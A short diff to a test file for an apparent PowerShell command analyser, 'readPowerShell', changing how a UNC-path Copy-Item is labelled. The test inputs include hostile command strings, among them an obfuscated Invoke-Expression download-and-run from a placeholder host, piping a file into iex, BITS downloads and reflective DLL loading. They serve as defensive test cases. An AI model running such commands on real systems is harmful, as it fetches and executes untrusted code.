@@ -133,7 +133,7 @@ describe("readPowerShell: what runs, comes and goes", () => {
     [". (gcm i*x) (irm http://h/a)", ["runs http://h/a"]],
     ["rp HKLM:\\SOFTWARE\\K -Name v; ri C:\\a.txt", ["Remove-ItemProperty delete hklm\\software\\k /v v"]],
     ["Start-BitsTransfer http://h/a C:\\a", ["fetches http://h/a", "writes C:\\a"]],
-    ["Copy-Item \\\\h\\s\\x.dll C:\\x.dll", ["reads \\\\h\\s\\x.dll", "writes C:\\x.dll"]],
+    ["Copy-Item \\\\h\\s\\x.dll C:\\x.dll", ["fetches \\\\h\\s\\x.dll", "writes C:\\x.dll"]],
     ["Get-Content C:\\x.txt | iex", ["runs C:\\x.txt"]],
     ["Add-Type -Path C:\\x.dll", ["runs C:\\x.dll"]],
     ["[Reflection.Assembly]::LoadFile('C:\\x.dll')", ["runs C:\\x.dll"]],
